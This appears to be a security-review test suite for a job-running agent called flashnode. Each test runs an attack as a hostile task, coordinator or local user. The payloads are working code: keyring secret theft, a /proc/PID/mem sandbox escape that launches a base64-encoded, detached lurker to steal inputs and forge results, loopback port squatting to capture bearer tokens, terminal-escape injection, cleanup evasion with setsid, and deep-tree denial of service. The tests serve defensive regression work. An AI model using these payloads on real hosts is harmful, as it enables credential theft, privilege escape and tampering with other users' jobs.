"""Attacks from a security review. Each test is one attack, as a hostile
task author, a hostile coordinator or a hostile local user would run it against a root agent
with ``--runner trusted``; each FAILS while the hole it demonstrates is open."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import pwd
import secrets
import shutil
import signal
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from badcoord import BadCoordinator, lease_answer
from conftest import TokenCoordinator
from harness import AgentProcess, CoordinatorServer, argv_job, pid_alive, shared_dir, wait_for

FAST = {"FLASHNODE_CLAIM_BACKOFF_MAX_SECONDS": "0.5"}
TRUSTED = ("--runner", "trusted", "--pool", "team-a")
ROOT = os.geteuid() == 0
SLOT0 = "flashnode-task-0"


def _rm_rf(path: Path) -> None:
    """shutil.rmtree cannot remove what these attacks leave (that is one of the holes)."""
    subprocess.run(["rm", "-rf", "--one-file-system", str(path)], check=False)


def _as_slot0(*argv: str) -> subprocess.CompletedProcess[str]:
    cmd = ["setpriv", f"--reuid={SLOT0}", f"--regid={SLOT0}", "--clear-groups", "--", *argv]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=60)


# --- 1. a deep directory tree: the agent's rmtree/os.walk recurse past Python's limit ----------

DEEP_TMP = r"""
import json, os
os.chdir('../tmp')
for _ in range(1500):
    os.mkdir('d')
    os.chdir('d')
open('/dev/null').close()
os.chdir(os.environ['FLASHML_WORK_DIR'])
json.dump({'ok': 1}, open('out/metrics.json', 'w'))
"""


def _deep_tar(depth: int = 1200) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for level in range(1, depth + 1):  # each directory as its own member, parents first
            entry = tarfile.TarInfo("/".join(["d"] * level))
            entry.type, entry.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(entry)
        data = b"x"
        info = tarfile.TarInfo("/".join(["d"] * depth) + "/f")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.mark.usefixtures("as_root")
@pytest.mark.parametrize("how", ["task-tmp", "input-archive"])
def test_a_deep_tree_neither_crashes_cleanup_nor_wedges_restarts(
    coordinator: CoordinatorServer, start_agent: Callable[..., AgentProcess], how: str
) -> None:
    """A task leaves a 1500-deep chain of directories in its own tmp/ (or a task author ships an
    input archive 1200 directories deep): Workspace.remove (shutil.rmtree) and hand_over
    (os.walk) raise RecursionError, which nothing catches. The attempt thread dies before its
    ledger line, the workspace with the task's files and the outbox record stay, and every
    restart of the agent crashes in startup on the same tree (systemd: a restart loop)."""
    if how == "task-tmp":
        job = coordinator.submit(argv_job(["python3", "-c", DEEP_TMP], max_attempts=1))
    else:
        coordinator.put_artifact("review/deep.tar", _deep_tar())
        job = coordinator.submit(
            argv_job(
                ["sh", "-c", "echo '{\"ok\": 1}' > metrics.json"],
                max_attempts=1,
                inputs={"deep": "artifact://review/deep.tar"},
                unpack_inputs=["deep"],
            )
        )
    agent = start_agent(coordinator.url, *TRUSTED, "--max-tasks", "1", env=FAST)
    attempts = agent.state_dir / "attempts"
    try:
        first_rc = agent.wait(90)
        coordinator.wait_state(job, {"SUCCEEDED", "FAILED"})
        ledger = agent.ledger()
        left = sorted(p.name for p in attempts.iterdir()) if attempts.exists() else []
        outbox = sorted(p.name for p in (agent.state_dir / "outbox").glob("*.json"))
        again = start_agent(
            coordinator.url, *TRUSTED, "--max-tasks", "1", env=FAST, state_dir=agent.state_dir
        )
        wait_for(
            "the restarted agent to register or die",
            lambda: "registered as node" in again.log or again.proc.poll() is not None,
            timeout=60,
        )
        restarted_rc = again.proc.poll()
        restart_log = again.log
    finally:
        for a in (agent,):
            if a.proc.poll() is None:
                a.proc.kill()
        _rm_rf(attempts)
    problems = []
    if len(ledger) != 1:
        problems.append(f"no ledger line for the attempt: {ledger}")
    if "'failed': 1" in agent.log and coordinator.job(job)["state"] == "SUCCEEDED":
        problems.append("the agent counted a committed attempt as failed")
    if left:
        problems.append(f"the task's workspace outlived the attempt: {left}")
    if outbox:
        problems.append(f"the outbox record outlived the attempt: {outbox}")
    if restarted_rc is not None:
        tail = restart_log.strip().splitlines()[-1:]
        problems.append(f"the restarted agent died at startup, exit {restarted_rc}: {tail}")
    assert first_rc == 0, agent.log
    assert not problems, "\n".join(problems)


# --- 2. the task forges the agent's own log artifacts ------------------------------------------

FORGE_LOGS = r"""
echo "REAL-STDOUT the agent captured this"
echo "REAL-STDERR the agent captured this" >&2
mkdir -p logs
echo "FORGED stdout: nothing to see here" > logs/stdout.txt
echo "FORGED stderr" > logs/stderr.txt
echo '{"ok": 1}' > metrics.json
"""


@pytest.mark.usefixtures("as_root")
def test_task_cannot_replace_the_logs_the_agent_captured(
    coordinator: CoordinatorServer, start_agent: Callable[..., AgentProcess]
) -> None:
    """The agent uploads its capture of stdout/stderr to <prefix>logs/stdout.txt, then every
    file of out/ to <prefix><name>: a task's out/logs/stdout.txt goes up later to the very same
    key and replaces the agent's record of what the task printed."""
    job = coordinator.submit(argv_job(["sh", "-c", FORGE_LOGS], max_attempts=1))
    agent = start_agent(coordinator.url, *TRUSTED, "--max-tasks", "1", env=FAST)
    assert agent.wait(60) == 0, agent.log
    coordinator.wait_state(job, {"SUCCEEDED", "FAILED"})
    stdout = coordinator.artifact(f"jobs/{job}/task-000/logs/stdout.txt")
    stderr = coordinator.artifact(f"jobs/{job}/task-000/logs/stderr.txt")
    assert b"FORGED" not in stdout and b"REAL-STDOUT" in stdout, stdout
    assert b"FORGED" not in stderr and b"REAL-STDERR" in stderr, stderr


# --- 3. terminal escapes from a task's stderr reach the owner's terminal -----------------------


@pytest.mark.usefixtures("as_root")
def test_task_stderr_cannot_write_escape_sequences_to_the_owners_terminal(
    coordinator: CoordinatorServer, start_agent: Callable[..., AgentProcess]
) -> None:
    """The failure reason carries the last stderr lines; `bounded` collapses whitespace but keeps
    ESC, the ledger keeps it, and `flashnode history` (run by the owner, as root, on a terminal)
    prints it raw: OSC 52 writes the owner's clipboard, OSC 0 the title, CSI clears/moves."""
    evil = r"printf '\033]0;owned\007\033]52;c;ZWNobyBwd25lZA==\007\033[2J\033[Hfine\n' >&2; exit 3"
    job = coordinator.submit(argv_job(["sh", "-c", evil], max_attempts=1))
    agent = start_agent(coordinator.url, *TRUSTED, "--max-tasks", "1", env=FAST)
    assert agent.wait(60) == 0, agent.log
    coordinator.wait_state(job, {"SUCCEEDED", "FAILED"})
    done = subprocess.run(
        [sys.executable, "-m", "flashnode", "history", "--state-dir", str(agent.state_dir)],
        capture_output=True,
        timeout=60,
        env={k: v for k, v in os.environ.items() if not k.startswith("FLASHNODE_")},
    )
    assert done.returncode == 0, done.stderr
    assert b"exit code 3" in done.stdout, done.stdout
    assert b"\x1b" not in done.stdout, done.stdout
    assert "\x1b" not in agent.log, "the agent's own log (journald, terminal) carries it too"


# --- 4. state that outlives the attempt: the task user's keyring --------------------------------

KEYRING = r"""
import ctypes, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
SYS_add_key, SYS_keyctl, USER_KEYRING, SESSION_KEYRING = 248, 250, -4, -3
KEYCTL_JOIN_SESSION_KEYRING, KEYCTL_LINK, KEYCTL_SEARCH, KEYCTL_READ = 1, 8, 10, 11
name = b"flashnode-review-" + sys.argv[2].encode()
if sys.argv[1] == "leave":
    secret = open('../inputs/secret.txt', 'rb').read()
    r = libc.syscall(SYS_add_key, b"user", name, secret, len(secret), USER_KEYRING)
    result = {"added": r}
else:
    # The slot's user keyring is the thief's own: linked into a session keyring of its own,
    # every key in it is possessed, readable whatever its owner-only permissions say.
    libc.syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, None)
    libc.syscall(SYS_keyctl, KEYCTL_LINK, USER_KEYRING, SESSION_KEYRING)
    kid = libc.syscall(SYS_keyctl, KEYCTL_SEARCH, SESSION_KEYRING, b"user", name, 0)
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(SYS_keyctl, KEYCTL_READ, kid, buf, 4096) if kid > 0 else -1
    result = {"found": buf.raw[:n].decode() if n > 0 else None}
json.dump(result, open('metrics.json', 'w'))
"""
# Invalidate (KEYCTL_INVALIDATE) only the key this test's task stored, nothing else of the user's.
FORGET_KEY = (
    "import ctypes, sys; c = ctypes.CDLL(None);"
    " k = c.syscall(250, 10, -4, b'user', sys.argv[1].encode(), 0);"
    " k > 0 and c.syscall(250, 21, k)"
)


@pytest.mark.usefixtures("as_root")
def test_a_later_task_of_the_slot_cannot_read_what_an_earlier_one_left_in_the_keyring(
    coordinator: CoordinatorServer, start_agent: Callable[..., AgentProcess]
) -> None:
    """Each slot's user is reused by every task of that slot, whoever submitted it. The kernel
    keyring of a uid (@u) belongs to no mount or IPC namespace and survives the attempt: task A
    stores its secret input there; task B, another job later in the same slot, reads it."""
    marker = secrets.token_hex(6)
    secret = "victim-" + secrets.token_hex(12)
    coordinator.put_artifact(f"review/{marker}/secret.txt", secret.encode())
    try:
        victim = coordinator.submit(
            argv_job(
                ["/usr/bin/python3", "-c", KEYRING, "leave", marker],
                max_attempts=1,
                inputs={"secret": f"artifact://review/{marker}/secret.txt"},
            )
        )
        agent = start_agent(coordinator.url, *TRUSTED, "--max-tasks", "2", env=FAST)
        assert coordinator.wait_state(victim, {"SUCCEEDED", "FAILED"}) == "SUCCEEDED", agent.log
        thief = coordinator.submit(
            argv_job(["/usr/bin/python3", "-c", KEYRING, "look", marker], max_attempts=1)
        )
        assert agent.wait(60) == 0, agent.log
        assert coordinator.wait_state(thief, {"SUCCEEDED", "FAILED"}) == "SUCCEEDED", agent.log
        added = json.loads(coordinator.artifact(f"jobs/{victim}/task-000/metrics.json"))
        found = json.loads(coordinator.artifact(f"jobs/{thief}/task-000/metrics.json"))
    finally:
        _as_slot0("/usr/bin/python3", "-c", FORGET_KEY, f"flashnode-review-{marker}")
    assert added["added"] > 0  # the victim's key was stored
    assert found == {"found": None}, f"the next task of the slot read the victim's secret: {found}"


# --- 5. files that outlive the attempt in host places every user can write ----------------------

LEAVE_HOST = r"""
m=flashnode-review-{marker}
: > /run/lock/$m && echo lock
: > {mq}/$m && echo mqueue
echo '{{"ok": 1}}' > metrics.json
"""


@pytest.fixture
def mqueue_mount() -> Iterator[Path]:
    """The host's POSIX message-queue filesystem, as systemd mounts it at /dev/mqueue on every
    host (mode 1777). Where it is not mounted, an mqueue instance of the host IPC namespace is
    mounted at a temporary directory in its stead, and unmounted afterwards."""
    dev = Path("/dev/mqueue")
    mounted = any(
        line.split()[1] == str(dev) and line.split()[2] == "mqueue"
        for line in Path("/proc/mounts").read_text().splitlines()
    )
    if mounted:
        yield dev
        return
    where = shared_dir("flashnode-review-mq-")
    where.chmod(0o755)
    done = subprocess.run(["mount", "-t", "mqueue", "flashnode-review-mq", str(where)])
    if done.returncode != 0:
        where.rmdir()
        pytest.skip("cannot mount an mqueue filesystem here")
    try:
        yield where
    finally:
        for q in where.iterdir():
            q.unlink()
        subprocess.run(["umount", str(where)], check=False)
        where.rmdir()


@pytest.mark.usefixtures("as_root")
def test_nothing_a_task_writes_outside_its_workspace_outlives_it(
    coordinator: CoordinatorServer,
    start_agent: Callable[..., AgentProcess],
    mqueue_mount: Path,
) -> None:
    """Only /tmp, /var/tmp and /dev/shm are made private (procs.mounts.PRIVATE_DIRS) and only SysV
    IPC is unshared. The task user can still create files in other world-writable places of the
    host: a message queue in the host's mqueue filesystem (/dev/mqueue: it belongs to the host's IPC
    namespace, not the task's) and, outside ProtectSystem=strict, /run/lock. Both stay after the
    attempt, readable by the next task and by every local user."""
    marker = secrets.token_hex(6)
    name = f"flashnode-review-{marker}"
    script = LEAVE_HOST.format(marker=marker, mq=mqueue_mount)
    job = coordinator.submit(argv_job(["sh", "-c", script], max_attempts=1))
    agent = start_agent(coordinator.url, *TRUSTED, "--max-tasks", "1", env=FAST)
    try:
        assert agent.wait(60) == 0, agent.log
        assert coordinator.wait_state(job, {"SUCCEEDED", "FAILED"}) == "SUCCEEDED"
        stdout = coordinator.artifact(f"jobs/{job}/task-000/logs/stdout.txt")
        left = [p for p in (mqueue_mount / name, Path("/run/lock") / name) if p.exists()]
        owners = {str(p): p.stat().st_uid for p in left}
    finally:
        for p in (mqueue_mount / name, Path("/run/lock") / name):
            with contextlib.suppress(FileNotFoundError):
                p.unlink()
    assert b"mqueue" in stdout or b"lock" in stdout or not left, stdout
    assert left == [], f"left behind by the task's user after its attempt: {owners}"


# --- 6. the module-import probe runs as slot 0's user beside slot 0's task ----------------------

HIJACK_SOURCE = Path(__file__).with_name("review_hijack.c")
HIJACK_TASK = r"""
gcc -O1 -o ../tmp/h ../inputs/review_hijack.c || exit 9
touch "$3/ready"
../tmp/h "$1" 60 "$2" > ../tmp/h.out 2>&1
printf '{"hijack": "%s"}' "$(head -c 200 ../tmp/h.out)" > metrics.json
"""
# What the escaped process (slot 0's user, host namespaces, no cgroup, no token) then does:
# wait for a later slot-0 task of this agent, steal its input and replace its result.
LURK = r"""
import json, os, time
drop, name, state = DROP, NAME, STATE
open(drop + '/escaped', 'w').write(str(os.getpid()))
open('/tmp/' + name, 'w').write('outside the private /tmp')
end = time.time() + 120
while time.time() < end:
    for pid in os.listdir('/proc'):
        try:  # what a task's /work is bound from
            mounts = [m.split() for m in open('/proc/' + pid + '/mountinfo').read().splitlines()]
        except OSError:
            continue
        work = [m[3] for m in mounts if len(m) > 4 and m[4] == '/work']
        if not work or not work[0].startswith(state) or not os.path.exists(work[0] + '/out/metrics.json'):
            continue
        try:
            secret = open(work[0] + '/inputs/secret.txt').read()
        except OSError:
            continue
        with open(work[0] + '/out/.m', 'w') as fh:
            json.dump({'mine': 'lurker'}, fh)
        os.rename(work[0] + '/out/.m', work[0] + '/out/metrics.json')
        open(drop + '/stolen', 'w').write(secret)
        time.sleep(600)
    time.sleep(0.01)
"""
VICTIM = r"""
cat ../inputs/secret.txt > /dev/null
echo '{"mine": "victim"}' > metrics.json
sleep 2
"""


def _escaped_command(drop: Path, name: str, state: Path) -> str:
    code = LURK.replace("DROP", repr(str(drop))).replace("NAME", repr(name))
    code = code.replace("STATE", repr(str(state) + "/"))
    b64 = base64.b64encode(code.encode()).decode()
    return (
        f"(setsid /usr/bin/python3 -c \"import base64; exec(base64.b64decode('{b64}'))\""
        " </dev/null >/dev/null 2>&1 &); exit 0"
    )


def _uid_processes(uid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError):
                if os.stat(f"/proc/{entry}").st_uid == uid and pid_alive(int(entry)):
                    found.append(int(entry))
    return found


@pytest.mark.usefixtures("as_root")
def test_slot0_task_cannot_hijack_the_module_probe_to_escape_and_rob_later_tasks(
    coordinator: CoordinatorServer, start_agent: Callable[..., AgentProcess], drop_dir: Path
) -> None:
    """procs.helpers.python_imports (on every reload: SIGHUP, `flashnode pools join`; and in
    `flashnode doctor`) runs task_python through popen_as as flashnode-task-0 with no sandbox: the
    host's mount namespace and /tmp, the agent's cgroup, no ownership token. A task running in slot
    0 is the same uid: it stops that process and rewrites its code through /proc/PID/mem (no
    ptrace call, so the unit's ~@debug filter does not stop it) to exec a shell. That shell
    (1) answers the probe with exit 0: the node registers module_capable for an interpreter
    that cannot import the modules; (2) leaves a process of slot 0's user that no kill of the
    attempt reaches (not in its cgroup, no token, its own session), writing the host's /tmp;
    (3) which later finds the next slot-0 task (another job), reads its secret input and
    replaces its out/metrics.json: the agent uploads and commits the forged result."""
    if shutil.which("gcc") is None:
        pytest.skip("the attacking task compiles its tool with gcc")
    python = "/usr/bin/python3"
    probe = subprocess.run([python, "-I", "-c", "import flashml_workloads"], capture_output=True)
    if probe.returncode == 0:
        pytest.skip(f"{python} imports the modules: the forged answer would not show")
    marker = secrets.token_hex(6)
    name = f"flashnode-review-{marker}"
    secret = "victim-secret-" + secrets.token_hex(12)
    coordinator.put_artifact(f"review/{marker}/review_hijack.c", HIJACK_SOURCE.read_bytes())
    coordinator.put_artifact(f"review/{marker}/secret.txt", secret.encode())
    agent = start_agent(
        coordinator.url, *TRUSTED, "--max-tasks", "2", env={**FAST, "FLASHNODE_TASK_PYTHON": python}
    )
    escaped: int | None = None
    try:
        agent.wait_log("module tasks off")
        attacker = coordinator.submit(
            argv_job(
                [
                    "sh",
                    "-c",
                    HIJACK_TASK,
                    "x",
                    str(agent.proc.pid),
                    _escaped_command(drop_dir, name, agent.state_dir),
                    str(drop_dir),
                ],
                max_attempts=1,
                inputs={"tool": f"artifact://review/{marker}/review_hijack.c"},
            )
        )
        wait_for("the attacking task to be ready", lambda: (drop_dir / "ready").exists(), 60)
        agent.signal(signal.SIGHUP)  # what `flashnode pools join` does
        coordinator.wait_state(attacker, {"SUCCEEDED", "FAILED"})
        victim = coordinator.submit(
            argv_job(
                ["sh", "-c", VICTIM],
                max_attempts=1,
                inputs={"secret": f"artifact://review/{marker}/secret.txt"},
            )
        )
        assert agent.wait(90) == 0, agent.log
        coordinator.wait_state(victim, {"SUCCEEDED", "FAILED"})
        result = coordinator.artifact(f"jobs/{victim}/task-000/metrics.json")
        stolen = (drop_dir / "stolen").read_text() if (drop_dir / "stolen").exists() else ""
        with contextlib.suppress(FileNotFoundError, ValueError):
            escaped = int((drop_dir / "escaped").read_text())
        slot0 = pwd.getpwnam(SLOT0).pw_uid
        alive = [p for p in _uid_processes(slot0) if p == escaped]
        host_tmp = Path("/tmp") / name
        host_file = host_tmp.exists() and host_tmp.stat().st_uid == slot0
        forged = f"module tasks on, under {python}" in agent.log
    finally:
        if escaped is not None and pid_alive(escaped):
            with open(f"/proc/{escaped}/environ", "rb") as fh:
                if b"FLASHNODE_OWNER" not in fh.read():
                    os.kill(escaped, signal.SIGKILL)
        with contextlib.suppress(FileNotFoundError):
            (Path("/tmp") / name).unlink()
    problems = []
    if forged:
        problems.append(f"{python} cannot import the modules, yet the reload says module tasks on")
    if alive:
        problems.append(f"slot 0's user still runs pid {alive} after the attacker's attempt")
    if host_file:
        problems.append(f"slot 0's user wrote the host's /tmp/{name}")
    if secret in stolen:
        problems.append("the escaped process read the next slot-0 task's secret input")
    if b"lurker" in result:
        problems.append(f"the next slot-0 task's committed metrics.json is forged: {result!r}")
    assert not problems, "\n".join(problems) + "\n" + agent.log[-2500:]


# --- 7. without cgroups, the token scan is the only net: it is easy to slip ---------------------

SLIP = r"""
setsid env -u FLASHNODE_OWNER sh -c 'echo $$ > {drop}/escaped-env; exec sleep 600' \
  </dev/null >/dev/null 2>&1 &
sleep 1
echo '{{"ok": 1}}' > metrics.json
"""


@pytest.mark.usefixtures("as_root")
def test_without_cgroups_detached_children_cannot_outlive_the_attempt(
    coordinator: CoordinatorServer,
    start_agent: Callable[..., AgentProcess],
    drop_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Where the host gives the agent no cgroups (guide: "where the host allows one"; the agent
    logs "limits rely on process groups and tokens"), a task's processes are found by process
    group and by a scan of /proc/*/environ for the ownership token (procs.find_owned). A child
    that leaves the group (setsid) and drops the token from
    its environment (``setsid env -u FLASHNODE_OWNER ...``) is never found, and lives on after
    the attempt as the slot's user (and so can trace every later task of that slot)."""
    wrapper_dir = shared_dir("flashnode-review-nocg-")
    wrapper = wrapper_dir / "python"
    wrapper.write_text(
        "#!/bin/sh\n"
        "exec unshare --mount --propagation private -- /bin/sh -c "
        '\'mount -t tmpfs flashnode-review-nocg /sys/fs/cgroup && exec "$0" "$@"\' '
        f'{sys.executable} "$@"\n'
    )
    wrapper.chmod(0o755)
    with monkeypatch.context() as m:
        m.setattr(sys, "executable", str(wrapper))
        agent = start_agent(coordinator.url, *TRUSTED, "--max-tasks", "1", env=FAST)
    pids: dict[str, int] = {}
    try:
        agent.wait_log("no per-task cgroups")
        job = coordinator.submit(argv_job(["sh", "-c", SLIP.format(drop=drop_dir)], max_attempts=1))
        assert agent.wait(60) == 0, agent.log
        assert coordinator.wait_state(job, {"SUCCEEDED", "FAILED"}) == "SUCCEEDED", agent.log
        for kind in ("env",):
            with contextlib.suppress(FileNotFoundError, ValueError):
                pids[kind] = int((drop_dir / f"escaped-{kind}").read_text())
        alive = {k: p for k, p in pids.items() if pid_alive(p)}
    finally:
        slot0 = pwd.getpwnam(SLOT0).pw_uid
        for p in pids.values():
            with contextlib.suppress(OSError):
                status = Path(f"/proc/{p}/status").read_text()
                if f"Uid:\t{slot0}\t" in status:
                    os.kill(p, signal.SIGKILL)
        shutil.rmtree(wrapper_dir, ignore_errors=True)
    assert pids, agent.log
    assert alive == {}, f"still running after the attempt ended: {alive}"


# --- 8. a coordinator hands out the same lease id twice -----------------------------------------


@pytest.mark.usefixtures("as_root")
def test_a_second_claim_of_a_running_lease_id_cannot_touch_the_running_attempt(
    start_agent: Callable[..., AgentProcess],
) -> None:
    """A claim answer naming a lease id this agent is already running (a hostile coordinator,
    or a replayed answer) is run again in the next slot: Workspace.create rmtree's the running
    attempt's workspace (its inputs and outputs) and hands it to the other slot's user, the
    outbox record is overwritten, and both tasks share the cgroup flashnode/<lease id>, so the
    end of one kills the other (a slot-1 task's end SIGKILLs slot 0's task)."""
    first = 'sleep 4; echo \'{"who": "first"}\' > metrics.json'
    second = 'echo \'{"who": "second"}\' > metrics.json'
    bad = BadCoordinator()
    try:
        bad.claims = [
            lease_answer(1, argv=["sh", "-c", first]),
            lease_answer(1, argv=["sh", "-c", second]),
            lease_answer(2),
        ]
        # Two attempts: the duplicate is no attempt of its own.
        agent = start_agent(bad.url, *TRUSTED, "--slots", "2", "--max-tasks", "2", env=FAST)
        assert agent.wait(90) == 0, agent.log
        assert "runs here already: ignored" in agent.log
        ledger = agent.ledger()
        metrics = [
            body
            for _, method, path, _, body in bad.requests
            if method == "PUT" and path.endswith("/metrics.json")
        ]
    finally:
        bad.close()
    # The agent may refuse the duplicate, but the attempt it was running must end as it would
    # have alone: committed with its own metrics.json.
    assert b'{"who": "first"}\n' in metrics, (
        f"the first attempt's result was lost: uploads {metrics}, fails {bad.fails},"
        f" ledger {[(r['slot'], r['outcome'], r['reason']) for r in ledger]}"
    )


# --- 9. plain http to loopback: anyone on the host may be the coordinator for a moment ----------

SQUAT = r"""
import json, os, socket, sys, time
port, drop = int(sys.argv[1]), sys.argv[2]
open(drop + '/ready', 'w').close()
start = time.time()  # the test says go as it stops the coordinator, however slow the agent was
while not os.path.exists(drop + '/go') and time.time() < start + 120:
    time.sleep(0.02)
deadline = time.time() + 15
got = []
while time.time() < deadline and not got:
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)  # past the old TIME_WAITs
    try:
        s.bind(('127.0.0.1', port))  # free while the coordinator restarts
    except OSError:
        s.close()
        time.sleep(0.02)
        continue
    s.listen(8)
    try:
        while not got:
            s.settimeout(max(0.1, deadline - time.time()))  # the port is held until the deadline
            c, _ = s.accept()
            data = c.recv(65536)
            for line in data.split(b'\r\n'):
                if line.lower().startswith((b'authorization:', b'x-flashml-join-code:')):
                    got.append(line.decode())
            c.sendall(b'HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\n\r\n')
            c.close()
            open(drop + '/captured.part', 'w').write(json.dumps(got))
    except OSError:
        pass
    s.close()
open(drop + '/captured', 'w').write(json.dumps(got))
if 'FLASHML_OUTPUT_DIR' in os.environ:
    json.dump({'captured': len(got)}, open('metrics.json', 'w'))
"""


@pytest.mark.usefixtures("as_root")
@pytest.mark.parametrize("who", ["trusted-task", "local-user"])
def test_nobody_on_the_host_can_catch_the_agents_token_on_a_loopback_coordinator_port(
    token_coordinator: TokenCoordinator,
    start_agent: Callable[..., AgentProcess],
    drop_dir: Path,
    who: str,
) -> None:
    """Plain http is allowed to a loopback coordinator (a local tunnel or proxy, the demo). A
    loopback port is no trust boundary on a shared host: whenever the coordinator's port is free
    (it restarts; the owner's manual: the agent rides that out), any local user (here `nobody`),
    a trusted task included, binds it and receives the agent's next request with `Authorization:
    Bearer <token>` (and, answering 404, the re-registration's join code). With the node's token
    it can claim, complete or fail this node's leases and upload as the node."""
    tc = token_coordinator
    squat = ["/usr/bin/python3", "-c", SQUAT, str(tc.server.port), str(drop_dir)]
    local: subprocess.Popen[bytes] | None = None
    if who == "trusted-task":
        tc.server.submit(argv_job(squat, max_attempts=1))
    else:
        nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
        local = subprocess.Popen([*nobody, *squat], cwd="/")
    agent = start_agent(
        tc.server.url,
        *TRUSTED,
        *tc.agent_args(),
        *(("--max-tasks", "1") if local is None else ()),
        env={**FAST, **tc.agent_env(), "FLASHNODE_HEARTBEAT_SECONDS": "1"},
    )
    try:
        wait_for("the squatter to be ready", lambda: (drop_dir / "ready").exists(), timeout=60)
        agent.wait_log("registered as node")
        (drop_dir / "go").touch()
        tc.server.stop()  # a restart of the coordinator (or of the tunnel in front of it)
        try:
            agent.wait_log("no credentials are sent there", timeout=30)
        finally:
            wait_for("the squatter to hand the port back", (drop_dir / "captured").exists, 60)
            tc.server.start()
        captured = json.loads((drop_dir / "captured").read_text())
    finally:
        if local is not None:
            local.kill()
            local.wait()
    assert not any(tc.token in line for line in captured), f"{who} caught: {captured}"


# --- 10. GPUs: CUDA_VISIBLE_DEVICES is advice, the device files are the host's -----------------

SEE_GPUS = r"""
import json, os
usable = [d for d in sorted(os.listdir('/dev')) if d.startswith('nvidia') and d[6:].isdigit()
          and os.access('/dev/' + d, os.R_OK | os.W_OK)]
json.dump({'cvd': os.environ.get('CUDA_VISIBLE_DEVICES'), 'usable': usable},
          open('metrics.json', 'w'))
"""


@pytest.mark.usefixtures("as_root")
def test_a_task_given_no_gpu_cannot_open_the_gpus(
    coordinator: CoordinatorServer, start_agent: Callable[..., AgentProcess]
) -> None:
    """Guide: a task asking for none "sees none on a GPU node"; manual: a trusted task shares only
    "the GPUs it was given". The trusted runner only sets CUDA_VISIBLE_DEVICES; the task shares
    the host's /dev (the driver makes /dev/nvidia* 0666), so unsetting the variable gives it
    every GPU, including the ones a concurrent task holds (its memory, its compute)."""
    if not Path("/dev/nvidiactl").exists():
        pytest.skip("no NVIDIA GPU on this machine")
    job = coordinator.submit(argv_job(["/usr/bin/python3", "-c", SEE_GPUS], max_attempts=1))
    agent = start_agent(coordinator.url, *TRUSTED, "--max-tasks", "1", env=FAST)
    assert agent.wait(60) == 0, agent.log
    assert coordinator.wait_state(job, {"SUCCEEDED", "FAILED"}) == "SUCCEEDED", agent.log
    seen = json.loads(coordinator.artifact(f"jobs/{job}/task-000/metrics.json"))
    assert seen["cvd"] == "", seen  # the agent says: none
    assert seen["usable"] == [], f"a task given no GPU opens {seen['usable']}"
